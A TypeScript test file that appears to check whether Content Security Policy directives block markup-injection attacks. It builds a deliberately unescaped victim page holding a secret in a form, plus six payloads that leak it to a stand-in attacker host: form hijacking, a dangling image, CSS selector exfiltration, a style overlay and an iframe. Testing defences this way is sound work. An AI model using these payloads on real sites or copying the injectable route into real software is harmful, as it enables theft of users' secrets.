import type { Attack } from '../attack.js';
import type { Scene } from '../scene.js';
import { textOf, type Victim } from '../victim.js';

/** A page with somebody's secret in a form, below what the query says. */
const form = ({ app, page, state }: Victim): void =>
  void app.get('/show', (req, res) => {
    page(
      res,
      `${textOf(req.query['q'])}<form id="pay" method="post" action="/transfer"><input name="pin" value="${state.secret}"></form><p>It's yours.</p>`,
    );
  });

const injected = (
  id: string,
  what: string,
  by: string,
  markup: (scene: Scene) => string,
  more: Partial<Attack> = {},
): Attack => ({
  id,
  what,
  goal: 'loot',
  by: [by],
  serve: form,
  act: (scene) => scene.open(`${scene.names.victim}/show?q=${encodeURIComponent(markup(scene))}`),
  ...more,
});

const rule = (evil: string): string => `input[value^="secret"] { background: url("${evil}/loot?style") }`;

export const markup: readonly Attack[] = [
  injected(
    'form-hijack',
    "a button that sends the page's own form to the attacker, clicked",
    'csp: form-action',
    () => '',
    {
      goal: 'secret',
      short: true,
      async act(scene) {
        const button = `<button id="x" form="pay" formaction="${scene.names.evil}/loot">Pay</button>`;
        await scene.open(`${scene.names.victim}/show?q=${encodeURIComponent(button)}`);
        // The navigation that a click starts is refused, so there is nothing to wait for.
        await scene.page.click('#x', { noWaitAfter: true });
      },
    },
  ),
  injected(
    'dangling-image',
    'an unfinished image address that swallows the rest of the line',
    'csp: img-src',
    ({ names }) => `<img src='${names.evil}/loot?`,
    { goal: 'secret' },
  ),
  injected(
    'inline-style',
    'a style element that asks the attacker for a picture if a field begins so',
    'csp: style-src-elem',
    ({ names }) => `<style>${rule(names.evil)}</style>`,
  ),
  injected(
    'foreign-style',
    "the same in the attacker's style sheet",
    'csp: style-src-elem',
    ({ names }) => `<link rel="stylesheet" href="${names.evil}/x.css">`,
    { pages: ({ evil }) => ({ '/x.css': rule(evil) }) },
  ),
  injected(
    'style-attribute',
    'a style attribute that loads a picture and lays it over the page',
    'csp: style-src-attr',
    ({ names }) => `<div style="position:fixed;inset:0;background:url('${names.evil}/loot?over')"></div>`,
  ),
  injected(
    'foreign-frame',
    "the attacker's page in a frame of the service's page",
    'csp: frame-src',
    ({ names }) => `<iframe src="${names.evil}/loot?frame"></iframe>`,
  ),
];
